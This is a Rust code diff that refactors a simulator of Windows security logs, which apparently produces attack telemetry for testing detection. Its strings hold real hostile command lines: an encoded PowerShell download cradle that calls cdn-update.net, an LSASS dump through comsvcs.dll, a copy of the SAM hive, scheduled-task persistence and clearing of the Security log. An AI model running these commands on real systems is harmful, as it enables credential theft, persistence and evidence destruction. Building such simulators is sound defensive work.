@@ -1065,194 +1065,229 @@ impl World<'_> {
         let user = self.fleet.users[user].clone();
         let mut t = Timeline::new(host, ts, u);
         let logon = logon_id(&user, rng);
-        let audit_4688 = audits_processes(host);
-        let shell = |rng: &mut Rng| {
-            new_proc(
-                CMD,
-                "\"C:\\Windows\\system32\\cmd.exe\"",
-                &user,
-                &logon,
-                rng,
-            )
+        let actor = Actor {
+            user,
+            logon,
+            audits: audits_processes(host),
         };
-        match name {
-            "office-macro" => {
-                let word = new_proc(WINWORD, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\Invoice_0427.docm\"", &user, &logon, rng);
-                let ps = new_proc(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC4AbgBlAHQALwBhACcAKQA=", &user, &logon, rng);
-                t.process_start(&ps, &word, audit_4688);
-                t.connect(&ps, "cdn-update.net", "185.141.63.120", 443, rng);
-                let payload = format!(
-                    "C:\\Users\\{}\\AppData\\Roaming\\OneDriveUpdate.exe",
-                    user.name
-                );
-                t.file_create(&ps, &payload);
-                t.registry_set(
-                    &ps,
-                    &format!("HKU\\{}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate", user.sid),
-                    &payload,
-                );
-            }
-            "discovery-burst" => {
-                let ps = new_proc(POWERSHELL, "powershell.exe -nop", &user, &logon, rng);
-                let cmd = new_proc(CMD, "cmd.exe /c whoami /all & net group \"domain admins\" /domain & nltest /domain_trusts", &user, &logon, rng);
-                t.process_start(&cmd, &ps, audit_4688);
-                for (image, original, line) in [
-                    (
-                        "C:\\Windows\\System32\\whoami.exe",
-                        "whoami.exe",
-                        "whoami  /all",
-                    ),
-                    (
-                        "C:\\Windows\\System32\\net.exe",
-                        "net.exe",
-                        "net  group \"domain admins\" /domain",
-                    ),
-                    (
-                        "C:\\Windows\\System32\\nltest.exe",
-                        "nltestrk.exe",
-                        "nltest  /domain_trusts",
-                    ),
-                ] {
-                    let p = new_proc(program(image, original, "", MS), line, &user, &logon, rng);
-                    t.process_start(&p, &cmd, audit_4688);
-                }
-            }
-            "lsass-minidump" => {
-                let cmd = shell(rng);
-                let dump = new_proc(RUNDLL32, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\debug.bin full", &user, &logon, rng);
-                t.process_start(&dump, &cmd, audit_4688);
-                t.sysmon(
-                    20,
-                    "10",
-                    "Process accessed (rule: ProcessAccess)",
-                    &[
-                        ("SourceProcessGUID", dump.guid.clone()),
-                        ("SourceProcessId", dump.pid.to_string()),
-                        ("SourceThreadId", "4460".into()),
-                        ("SourceImage", RUNDLL32.image.into()),
-                        ("TargetProcessGUID", braced(rng)),
-                        ("TargetProcessId", "652".into()),
-                        ("TargetImage", LSASS.into()),
-                        ("GrantedAccess", "0x1fffff".into()),
-                        ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2bcde|C:\\Windows\\System32\\comsvcs.dll+43c2a|UNKNOWN(00000000002A1B3C)".into()),
-                        ("SourceUser", account(&user)),
-                        ("TargetUser", "NT AUTHORITY\\SYSTEM".into()),
-                    ],
-                );
-                t.file_create(&dump, "C:\\Windows\\Temp\\debug.bin");
-            }
-            "password-spray" => {
-                let attacker = "10.20.7.66";
-                for (i, victim) in self
-                    .fleet
-                    .users
-                    .iter()
-                    .filter(|v| !v.service)
-                    .take(8)
-                    .enumerate()
-                {
-                    t.failed_logon(&victim.name, attacker, "KALI", if i == 0 { 0 } else { 700 });
-                }
-                t.logon(&user, 3, None, &logon);
-            }
-            "psexec-service" => {
-                t.logon(&user, 3, Some(&self.fleet.hosts[0]), &logon);
-                t.service_install(&user, &logon, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
-                let svc = new_proc(
-                    program(
-                        "C:\\Windows\\PSEXESVC.exe",
-                        "psexesvc.exe",
-                        "PsExec Service",
-                        "Sysinternals",
-                    ),
-                    "C:\\Windows\\PSEXESVC.exe",
-                    &system_user(),
-                    "0x3e7",
-                    rng,
-                );
-                let services = new_proc(
-                    SERVICES,
-                    "C:\\Windows\\system32\\services.exe",
-                    &system_user(),
-                    "0x3e7",
-                    rng,
-                );
-                t.process_start(&svc, &services, audit_4688);
-                let cmd = new_proc(
-                    CMD,
-                    "\"cmd\" /c \"hostname && ipconfig\"",
-                    &system_user(),
-                    "0x3e7",
-                    rng,
-                );
-                t.process_start(&cmd, &svc, audit_4688);
-            }
-            "schtask-persistence" => {
-                let cmd = shell(rng);
-                let schtasks = new_proc(program("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MS), "schtasks.exe /create /tn \"\\Microsoft\\Windows\\WinUpdate\" /tr \"C:\\Users\\Public\\upd.exe\" /sc onlogon /ru SYSTEM /f", &user, &logon, rng);
-                t.process_start(&schtasks, &cmd, audit_4688);
-                t.task_registered(
-                    &user,
-                    &logon,
-                    "\\Microsoft\\Windows\\WinUpdate",
-                    "C:\\Users\\Public\\upd.exe",
-                    "",
-                );
-            }
-            "sam-hive-copy" => {
-                let cmd = shell(rng);
-                let reg = new_proc(
-                    program(
-                        "C:\\Windows\\System32\\reg.exe",
-                        "reg.exe",
-                        "Registry Console Tool",
-                        MS,
-                    ),
-                    "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y",
-                    &user,
-                    &logon,
-                    rng,
-                );
-                t.process_start(&reg, &cmd, audit_4688);
-                t.file_create(&reg, "C:\\Windows\\Temp\\sam.save");
-            }
-            _ => {
-                // "security-log-cleared"
-                let cmd = shell(rng);
-                let wevtutil = new_proc(
-                    program(
-                        "C:\\Windows\\System32\\wevtutil.exe",
-                        "wevtutil.exe",
-                        "Eventing Command Line Utility",
-                        MS,
-                    ),
-                    "wevtutil.exe cl Security",
-                    &user,
-                    &logon,
-                    rng,
-                );
-                t.process_start(&wevtutil, &cmd, audit_4688);
-                let doc = t.event(
-                    300,
-                    EVENTLOG_PROVIDER,
-                    pipeline::CHANNEL_SECURITY,
-                    "1102",
-                    "Log clear",
-                );
-                audit(doc, true);
-                for (k, v) in [
-                    ("SubjectUserSid", user.sid.as_str()),
-                    ("SubjectUserName", user.name.as_str()),
-                    ("SubjectDomainName", user.domain.as_str()),
-                    ("SubjectLogonId", logon.as_str()),
-                ] {
-                    doc.set_str(format!("winlog.user_data.{k}"), v);
-                }
-                doc.set_str("winlog.user_data.xml_name", "LogFileCleared");
-            }
-        }
+        let technique: fn(&mut Timeline, &Actor, &[User], &[Host], &mut Rng) = match name {
+            "office-macro" => office_macro,
+            "discovery-burst" => discovery_burst,
+            "lsass-minidump" => lsass_minidump,
+            "password-spray" => password_spray,
+            "psexec-service" => psexec_service,
+            "schtask-persistence" => schtask_persistence,
+            "sam-hive-copy" => sam_hive_copy,
+            _ => security_log_cleared,
+        };
+        technique(&mut t, &actor, &self.fleet.users, &self.fleet.hosts, rng);
         t.docs
     }
+}
+
+/// Who plays a technique: the campaign's account, its logon session, and whether the host
+/// audits process creation.
+struct Actor {
+    user: User,
+    logon: String,
+    audits: bool,
+}
+
+impl Actor {
+    fn process(&self, program: Program, cmd: &str, rng: &mut Rng) -> Proc {
+        new_proc(program, cmd, &self.user, &self.logon, rng)
+    }
+
+    fn shell(&self, rng: &mut Rng) -> Proc {
+        self.process(CMD, "\"C:\\Windows\\system32\\cmd.exe\"", rng)
+    }
+}
+
+/// A Word macro starts an encoded PowerShell that connects out, drops a file and sets a
+/// `Run` key for it.
+fn office_macro(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
+    let word = a.process(WINWORD, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\Invoice_0427.docm\"", rng);
+    let ps = a.process(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC4AbgBlAHQALwBhACcAKQA=", rng);
+    t.process_start(&ps, &word, a.audits);
+    t.connect(&ps, "cdn-update.net", "185.141.63.120", 443, rng);
+    let payload = format!(
+        "C:\\Users\\{}\\AppData\\Roaming\\OneDriveUpdate.exe",
+        a.user.name
+    );
+    t.file_create(&ps, &payload);
+    t.registry_set(
+        &ps,
+        &format!(
+            "HKU\\{}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate",
+            a.user.sid
+        ),
+        &payload,
+    );
+}
+
+/// `whoami`, `net group` and `nltest` from a shell that PowerShell started.
+fn discovery_burst(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
+    let ps = a.process(POWERSHELL, "powershell.exe -nop", rng);
+    let cmd = a.process(
+        CMD,
+        "cmd.exe /c whoami /all & net group \"domain admins\" /domain & nltest /domain_trusts",
+        rng,
+    );
+    t.process_start(&cmd, &ps, a.audits);
+    for (image, original, line) in [
+        (
+            "C:\\Windows\\System32\\whoami.exe",
+            "whoami.exe",
+            "whoami  /all",
+        ),
+        (
+            "C:\\Windows\\System32\\net.exe",
+            "net.exe",
+            "net  group \"domain admins\" /domain",
+        ),
+        (
+            "C:\\Windows\\System32\\nltest.exe",
+            "nltestrk.exe",
+            "nltest  /domain_trusts",
+        ),
+    ] {
+        let p = a.process(program(image, original, "", MS), line, rng);
+        t.process_start(&p, &cmd, a.audits);
+    }
+}
+
+/// LSASS dumped through `comsvcs.dll`'s `MiniDump`, with Sysmon's process access event.
+fn lsass_minidump(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
+    let cmd = a.shell(rng);
+    let dump = a.process(RUNDLL32, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\debug.bin full", rng);
+    t.process_start(&dump, &cmd, a.audits);
+    t.sysmon(
+        20,
+        "10",
+        "Process accessed (rule: ProcessAccess)",
+        &[
+            ("SourceProcessGUID", dump.guid.clone()),
+            ("SourceProcessId", dump.pid.to_string()),
+            ("SourceThreadId", "4460".into()),
+            ("SourceImage", RUNDLL32.image.into()),
+            ("TargetProcessGUID", braced(rng)),
+            ("TargetProcessId", "652".into()),
+            ("TargetImage", LSASS.into()),
+            ("GrantedAccess", "0x1fffff".into()),
+            ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2bcde|C:\\Windows\\System32\\comsvcs.dll+43c2a|UNKNOWN(00000000002A1B3C)".into()),
+            ("SourceUser", account(&a.user)),
+            ("TargetUser", "NT AUTHORITY\\SYSTEM".into()),
+        ],
+    );
+    t.file_create(&dump, "C:\\Windows\\Temp\\debug.bin");
+}
+
+/// Failed network logons for eight accounts from one address, then one that works.
+fn password_spray(t: &mut Timeline, a: &Actor, users: &[User], _: &[Host], _: &mut Rng) {
+    let attacker = "10.20.7.66";
+    for (i, victim) in users.iter().filter(|v| !v.service).take(8).enumerate() {
+        t.failed_logon(&victim.name, attacker, "KALI", if i == 0 { 0 } else { 700 });
+    }
+    t.logon(&a.user, 3, None, &a.logon);
+}
+
+/// A PsExec-style service installed over a network logon, and the shell it runs.
+fn psexec_service(t: &mut Timeline, a: &Actor, _: &[User], hosts: &[Host], rng: &mut Rng) {
+    t.logon(&a.user, 3, hosts.first(), &a.logon);
+    t.service_install(&a.user, &a.logon, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
+    let system = system_user();
+    let svc = new_proc(
+        program(
+            "C:\\Windows\\PSEXESVC.exe",
+            "psexesvc.exe",
+            "PsExec Service",
+            "Sysinternals",
+        ),
+        "C:\\Windows\\PSEXESVC.exe",
+        &system,
+        "0x3e7",
+        rng,
+    );
+    let services = new_proc(
+        SERVICES,
+        "C:\\Windows\\system32\\services.exe",
+        &system,
+        "0x3e7",
+        rng,
+    );
+    t.process_start(&svc, &services, a.audits);
+    let cmd = new_proc(
+        CMD,
+        "\"cmd\" /c \"hostname && ipconfig\"",
+        &system,
+        "0x3e7",
+        rng,
+    );
+    t.process_start(&cmd, &svc, a.audits);
+}
+
+/// `schtasks /create` of a logon task running as SYSTEM, with its 4698.
+fn schtask_persistence(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
+    let cmd = a.shell(rng);
+    let schtasks = a.process(program("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MS), "schtasks.exe /create /tn \"\\Microsoft\\Windows\\WinUpdate\" /tr \"C:\\Users\\Public\\upd.exe\" /sc onlogon /ru SYSTEM /f", rng);
+    t.process_start(&schtasks, &cmd, a.audits);
+    t.task_registered(
+        &a.user,
+        &a.logon,
+        "\\Microsoft\\Windows\\WinUpdate",
+        "C:\\Users\\Public\\upd.exe",
+        "",
+    );
+}
+
+/// The SAM hive saved with `reg save`.
+fn sam_hive_copy(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
+    let cmd = a.shell(rng);
+    let reg = a.process(
+        program(
+            "C:\\Windows\\System32\\reg.exe",
+            "reg.exe",
+            "Registry Console Tool",
+            MS,
+        ),
+        "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y",
+        rng,
+    );
+    t.process_start(&reg, &cmd, a.audits);
+    t.file_create(&reg, "C:\\Windows\\Temp\\sam.save");
+}
+
+/// `wevtutil cl Security` and the 1102 the cleared log records.
+fn security_log_cleared(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
+    let cmd = a.shell(rng);
+    let wevtutil = a.process(
+        program(
+            "C:\\Windows\\System32\\wevtutil.exe",
+            "wevtutil.exe",
+            "Eventing Command Line Utility",
+            MS,
+        ),
+        "wevtutil.exe cl Security",
+        rng,
+    );
+    t.process_start(&wevtutil, &cmd, a.audits);
+    let doc = t.event(
+        300,
+        EVENTLOG_PROVIDER,
+        pipeline::CHANNEL_SECURITY,
+        "1102",
+        "Log clear",
+    );
+    audit(doc, true);
+    for (k, v) in [
+        ("SubjectUserSid", a.user.sid.as_str()),
+        ("SubjectUserName", a.user.name.as_str()),
+        ("SubjectDomainName", a.user.domain.as_str()),
+        ("SubjectLogonId", a.logon.as_str()),
+    ] {
+        doc.set_str(format!("winlog.user_data.{k}"), v);
+    }
+    doc.set_str("winlog.user_data.xml_name", "LogFileCleared");
 }
 
 /// An installer: msiexec writes the program's files, a `Run` key and, sometimes, a service.
